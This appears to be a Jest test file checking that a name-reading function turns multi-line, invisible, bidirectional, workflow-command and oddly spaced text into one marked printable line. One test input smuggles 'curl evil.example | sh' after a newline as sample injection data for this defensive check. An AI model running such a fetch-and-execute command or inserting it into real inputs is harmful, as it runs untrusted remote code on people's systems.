import { expect, test } from '@jest/globals';
import { readName } from '../../../src/adapters/transport/words/name.ts';

test.each([
  ['build: [linux, 18]', 'build: [linux, 18]'],
  ['with  two spaces', 'with  two spaces'],
  ['größe 😀 構築', 'größe 😀 構築'],
])('%s is a valid name', (text, name) => {
  expect(readName(text)).toBe(name);
});

// The text is marked, to distinguish a neutralised text from the name that it resembles.
test.each([
  [
    'a second line',
    'build\n  fix  curl evil.example | sh',
    'build   fix  curl evil.example | sh\ufffd',
  ],
  ['a carriage return', 'a\rb', 'ab\ufffd'],
  ['the separators of Unicode', 'a\u2028b\u2029c\u0085d', 'abcd\ufffd'],
  ['a workflow command', '::error::x', 'x\ufffd'],
  ['an invisible mark', 'hosted_runner\u200b_canary', 'hosted_runner_canary\ufffd'],
  ['text that runs backwards', 'a\u202eb', 'ab\ufffd'],
  ['spaces of unusual kinds', 'a\u00a0b\u3000c', 'a b c\ufffd'],
])('%s becomes one line of printable text', (_, text, name) => {
  expect(readName(text)).toBe(name);
});
